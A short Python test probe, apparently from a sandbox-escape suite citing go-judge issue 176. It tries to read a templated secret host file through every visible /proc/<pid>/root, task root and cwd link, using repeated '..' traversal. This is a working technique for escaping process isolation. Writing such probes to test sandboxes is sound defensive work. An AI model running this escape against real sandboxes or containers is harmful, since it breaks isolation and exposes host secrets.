# Reads a file of the host through the root or working directory of every process that it sees.
# source: history 6, 40 (go-judge issue 176)
# control: host
import glob

from attempts import attempt, hidden

path = "{{secret_path}}"
roots = glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/task/*/root") + glob.glob("/proc/[0-9]*/cwd")
for root in [r for r in roots if "/self/" not in r][:200]:
    attempt(root, lambda: hidden(root + "/" * 2 + path if root.endswith("root") else root + "/.." * 30 + path))
